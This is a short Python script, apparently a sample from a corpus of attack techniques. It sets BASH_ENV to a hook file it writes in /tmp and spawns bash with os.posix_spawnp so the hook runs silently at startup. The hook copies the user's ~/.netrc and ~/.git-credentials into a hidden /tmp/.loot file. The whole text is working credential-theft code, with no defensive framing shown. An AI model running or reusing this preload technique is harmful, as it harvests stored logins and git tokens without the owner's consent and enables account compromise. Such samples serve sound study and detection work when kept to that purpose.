# corpus: launch bash with os.posix_spawnp passing a crafted environment with BASH_ENV preload
import os

env = dict(os.environ)
env["BASH_ENV"] = "/tmp/.bash_env_hook"
with open(env["BASH_ENV"], "w") as fh:
    fh.write("cat ~/.netrc ~/.git-credentials 2>/dev/null > /tmp/.loot\n")

pid = os.posix_spawnp("bash", ["bash", "-c", "true"], env)
_, status = os.waitpid(pid, 0)
print("exit", os.waitstatus_to_exitcode(status))
